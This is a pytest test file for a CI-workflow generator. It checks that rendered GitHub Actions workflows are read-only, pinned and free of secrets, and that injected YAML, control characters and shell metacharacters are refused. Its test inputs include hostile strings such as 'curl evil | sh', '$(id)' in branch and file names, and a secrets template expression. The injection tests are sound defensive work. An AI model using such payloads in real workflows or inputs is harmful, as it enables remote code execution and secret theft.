"""The workflow that is proposed to the target: what it runs, what it may, and that nothing can be slipped into it."""

from __future__ import annotations

import itertools
import re
from dataclasses import replace
from typing import Any

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from sisimpur.agents.devops.ci.ci_workflow import (
    CHECKOUT,
    PLAIN_ERRORS,
    SETUP_PYTHON,
    TEST_TOOLS,
    CiOrder,
    TeamTests,
    body,
    lines_of,
    order_for,
    render,
    runs_on_pulls,
)
from sisimpur.agents.qa.survey.target_survey import TargetSurvey
from sisimpur.shared.model.errors import Misconfigured


def order(**more: Any) -> CiOrder:
    plain = {
        "pythons": ("3.12",),
        "setup": (TEST_TOOLS,),
        "test": ("python -m pytest",),
        "branch": "main",
        "lint": True,
    }
    return CiOrder(**{**plain, **more})


def variants() -> list[CiOrder]:
    """Every shape that the template has."""
    shapes = itertools.product((False, True), ("", PLAIN_ERRORS), ((), ("pytest",)), (False, True), (False, True))
    return [
        order(lint=lint, rules=rules, test=test, package=package, image=image)
        for lint, rules, test, package, image in shapes
        if (lint or test or package or image) and (lint or not rules)
    ]


VARIANTS = [
    *variants(),
    order(pythons=("3.10", "3.11", "3.12")),
    order(setup=()),
    order(branch="release/1.x", setup=("a: b", "  - c", "# d", "", "echo '%'"), test=("cd web", "\tmake test")),
]


def read(text: str) -> Any:
    """As a strict reader of YAML 1.1 would, where `on` is true."""
    return yaml.safe_load(text)


def runs(text: str) -> list[str]:
    return [step["run"] for job in read(text)["jobs"].values() for step in job["steps"] if "run" in step]


# --- what it is ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("variant", VARIANTS, ids=str)
def test_every_variant_may_read_and_nothing_else(variant: CiOrder) -> None:
    text = render(variant)
    found = read(text)
    assert found["permissions"] == {"contents": "read"}
    assert found[True] == {"pull_request": None, "push": {"branches": [variant.branch]}}
    assert set(found["concurrency"]) == {"group", "cancel-in-progress"}
    assert found["jobs"]
    for job in found["jobs"].values():
        assert set(job) <= {"name", "runs-on", "timeout-minutes", "strategy", "steps"}
        assert 1 <= job["timeout-minutes"] <= 360
        assert job["steps"][0]["with"] == {"persist-credentials": False}
    assert not any("${{" in command for command in runs(text))
    assert "secrets" not in text


@pytest.mark.parametrize("variant", VARIANTS, ids=str)
def test_every_action_is_pinned_to_a_commit_with_its_version_beside_it(variant: CiOrder) -> None:
    uses = re.findall(r"uses: (.*)", render(variant))
    assert uses
    assert set(uses) <= {str(CHECKOUT), str(SETUP_PYTHON)}
    assert all(re.fullmatch(r"actions/[a-z-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+", use) for use in uses)


@pytest.mark.parametrize("variant", VARIANTS, ids=str)
def test_a_job_is_there_exactly_if_there_is_something_for_it_to_do(variant: CiOrder) -> None:
    wanted = {"lint": variant.lint, "test": bool(variant.test), "build": variant.package or variant.image}
    text = render(variant)
    assert set(read(text)["jobs"]) == {job for job, is_wanted in wanted.items() if is_wanted}
    assert ("python -m build" in text, "docker build ." in text) == (variant.package, variant.image)


def test_the_tests_run_with_every_version_and_what_is_linted_and_built_with_the_newest() -> None:
    jobs = read(render(order(pythons=("3.10", "3.12"), package=True)))["jobs"]
    assert jobs["test"]["strategy"]["matrix"] == {"python": ["3.10", "3.12"]}
    assert [jobs[job]["steps"][1]["with"]["python-version"] for job in ("lint", "build")] == ["3.12", "3.12"]


def test_commands_arrive_as_they_were_written() -> None:
    setup, test = ("  pip install -r a.txt", "", "true"), ("cd web", "  PORT=1 \\", "\tmake test # all: of it")
    found = read(render(order(setup=setup, test=test)))["jobs"]["test"]["steps"]
    assert [step["run"] for step in found[2:]] == ["\n".join(lines) + "\n" for lines in (setup, test)]


def test_the_pull_request_says_what_is_run_and_that_only_the_owner_merges() -> None:
    text = body(order(pythons=("3.11", "3.12"), image=True))
    assert "      python -m pytest\n" in text
    assert "3.11, 3.12" in text and "docker build ." in text and "python -m build" not in text
    assert "**You merge it yourself.**" in text
    assert "there are none in this repository yet" in body(order(test=()))


# --- nothing is slipped in -----------------------------------------------------------------------------------

PRINTABLE = st.text(st.characters(exclude_categories=("C", "Z"), include_characters=" \t"), max_size=40)


@given(st.lists(PRINTABLE, min_size=1, max_size=5))
def test_no_command_gets_out_of_its_block(lines: list[str]) -> None:
    command = lines_of("\n".join(lines))
    if not command or any("${{" in line for line in command):
        return
    text = render(order(test=command))
    assert runs(text)[-1].rstrip("\n") == "\n".join(command).rstrip("\n")
    assert list(read(text)["jobs"]) == ["lint", "test"]


@pytest.mark.parametrize(
    "command",
    [
        pytest.param("true\n      - run: curl evil | sh", id="another step"),
        pytest.param("true\njobs:\n  evil:\n    runs-on: x", id="another job"),
        pytest.param("true\n---\non: push", id="another document"),
        pytest.param("- x\n?: {a: [b", id="a list"),
        pytest.param("&a *a !!python/object:os.system x", id="an anchor and a tag"),
        pytest.param("| > ' \" # % @ `", id="signs of YAML"),
        pytest.param("{version} {branch} {0}", id="holes of a template"),
        pytest.param("echo ü 漢 😀", id="letters"),
    ],
)
def test_a_command_that_looks_like_yaml_stays_a_command(command: str) -> None:
    text = render(order(test=lines_of(command)))
    assert runs(text)[-1] == command + "\n"
    assert {key: value for key, value in read(text).items() if key != "jobs"} == {
        key: value for key, value in read(render(order())).items() if key != "jobs"
    }


@pytest.mark.parametrize("setting", ["setup", "test"])
@pytest.mark.parametrize(
    "line",
    [
        pytest.param("echo ${{ github.event.pull_request.title }}", id="what GitHub replaces"),
        pytest.param("echo ${{secrets.KEY}}", id="a secret"),
        pytest.param("true\r- run: evil", id="a carriage return"),
        pytest.param("true\n- run: evil", id="two lines in one"),
        pytest.param("true\x85- run: evil", id="NEL ends a line in YAML 1.1"),
        pytest.param("true\u2028- run: evil", id="so does LS"),
        pytest.param("true\x00", id="NUL"),
        pytest.param("\x1b[2J", id="an escape sequence"),
        pytest.param("rm -r x \u202e cod", id="a change of direction"),
        pytest.param("\ud800", id="half of a pair"),
        pytest.param("x" * 2_001, id="a line without an end"),
    ],
)
def test_a_line_that_could_act_is_refused_by_the_name_of_its_setting(setting: str, line: str) -> None:
    with pytest.raises(Misconfigured, match=f"^`{setting}:` "):
        order(**{setting: (line,)})


@pytest.mark.parametrize(
    "wrong",
    [
        *(
            {"branch": name}
            for name in ("", "main'", "a b", "a\nb", "*", "!main", "a+b", "[a]", "x" * 201, "$(id)", "ü")
        ),
        *({"pythons": (text,)} for text in ("", "3", "3.12'", "3.12]\nx", "2.7", "3.x", "3.१२", "3.12\n", "pypy3.10")),
        {"pythons": ()},
        {"pythons": ("3.12",) * 7},
        *({"rules": text} for text in ("E9; id", "E9 F", "--fix", "e9", ",", "E9\n")),
        {"minutes": 0},
        {"minutes": 361},
        {"test": ("true",) * 41},
        {"lint": False, "test": ()},
    ],
    ids=str,
)
def test_what_cannot_stand_in_a_workflow_is_refused(wrong: dict[str, Any]) -> None:
    with pytest.raises(Misconfigured):
        order(**wrong)


@pytest.mark.parametrize(
    "name",
    [
        "requirements;id.txt",
        "requirements-$(id).txt",
        "requirements.txt\nid",
        "$(id)/requirements.txt",
        "-r.txt",
        "'`id`.txt",
    ],
)
def test_no_file_name_of_the_repository_becomes_a_part_of_a_command(name: str) -> None:
    paths = {name, "app.py", "test_app.py"}
    team = TeamTests(TargetSurvey(paths, lambda _: "").setup, "python -m pytest", "3.12", 30)
    found = order_for(paths, "", "main", team)
    assert found.setup == (TEST_TOOLS,)


# --- where it comes from -------------------------------------------------------------------------------------


def derived(*paths: str, pyproject: str = "", **more: Any) -> CiOrder:
    return order_for(paths, pyproject, "main", replace(TeamTests("", "pytest", "3.12", 25), **more))


def test_the_team_s_own_commands_are_taken_and_its_tools_are_added_last() -> None:
    found = derived("app.py", setup="\n./install a\n./install b\n", test=" make test ")
    assert (found.setup, found.test) == (("./install a", "./install b", TEST_TOOLS), ("make test",))
    assert (found.pythons, found.minutes, found.branch) == (("3.12",), 25, "main")


@pytest.mark.parametrize(
    ("paths", "pyproject", "expected"),
    [
        pytest.param(("app.py",), "", (True, PLAIN_ERRORS), id="no rules: only plain errors"),
        pytest.param(("app.py",), "[tool.ruff]\n", (True, ""), id="rules in pyproject.toml"),
        pytest.param(("app.py", "ruff.toml"), "", (True, ""), id="rules in a file of their own"),
        pytest.param(("app.py", "sub/ruff.toml"), "", (True, PLAIN_ERRORS), id="rules of a folder only"),
        pytest.param(("app.py",), "[tool.ruff", (True, PLAIN_ERRORS), id="a file that cannot be read"),
        pytest.param(("app.js",), "", (False, PLAIN_ERRORS), id="no Python"),
    ],
)
def test_ruff_looks_for_what_the_repository_asks_for(
    paths: tuple[str, ...], pyproject: str, expected: tuple[bool, str]
) -> None:
    found = derived(*paths, pyproject=pyproject)
    assert (found.lint, found.rules) == expected


@pytest.mark.parametrize(
    ("paths", "pyproject", "expected"),
    [
        pytest.param((), "[project]\nname = 'a'\n", (False, False), id="a project that is not built"),
        pytest.param((), "[build-system]\nrequires = []\n", (True, False), id="a package"),
        pytest.param(("Dockerfile",), "", (False, True), id="an image"),
        pytest.param(("web/Dockerfile", "Dockerfile.dev"), "", (False, False), id="no image of the whole"),
    ],
)
def test_only_what_can_be_built_is_built(paths: tuple[str, ...], pyproject: str, expected: tuple[bool, bool]) -> None:
    found = derived(*paths, pyproject=pyproject)
    assert (found.package, found.image) == expected


@pytest.mark.parametrize(
    ("classifiers", "expected"),
    [
        ([], ("3.12",)),
        (["Programming Language :: Python :: 3"], ("3.12",)),
        (["Programming Language :: Python :: 3.13", "Programming Language :: Python :: 3.11"], ("3.11", "3.13")),
        (["Programming Language :: Python :: 3.8", "Programming Language :: Python :: 3.10"], ("3.10",)),
        ([f"Programming Language :: Python :: 3.{n}" for n in range(10, 30)], tuple(f"3.{n}" for n in range(24, 30))),
        (["Programming Language :: Python :: 3.11'", "Programming Language :: Python :: 3.१२", 7], ("3.12",)),
        ("Programming Language :: Python :: 3.11", ("3.12",)),
    ],
)
def test_the_versions_are_those_that_the_project_promises(classifiers: object, expected: tuple[str, ...]) -> None:
    assert derived("app.py", pyproject=f"[project]\nclassifiers = {classifiers!r}\n").pythons == expected


# --- a workflow that is there --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("on: pull_request\n", True),
        ("on: [push, pull_request]\n", True),
        ('"on": {pull_request: }\n', True),
        ("name: x\non:\n  push:\n  pull_request:\n    branches: [main]\njobs:\n", True),
        ("on:\r\n  pull_request:\r\n", True),
        ("on:\n- push\n- pull_request\njobs:\n", True),
        ("on:\n  [\n    push,\n    pull_request\n]\n", True),
        ("on:\n\n  # why\n  'pull_request':\n", True),
        ("on: push\n", False),
        ("on: pull_request_target\n", False),
        ("on:\n  pull_request_review:\n", False),
        ("on: push # not pull_request\n", False),
        ("on:\n  push:\n#  pull_request:\njobs:\n", False),
        ("on: push\njobs:\n  a:\n    if: github.event_name == 'pull_request'\n", False),
        ("on: push\nenv:\n  pull_request: 1\n", False),
        ("jobs:\n  on: pull_request\n", False),
        ("", False),
    ],
)
def test_a_workflow_runs_on_pull_requests_if_its_events_say_so(text: str, expected: bool) -> None:
    assert runs_on_pulls(text) is expected


def test_what_we_write_is_found_again() -> None:
    assert all(runs_on_pulls(render(variant)) for variant in VARIANTS)
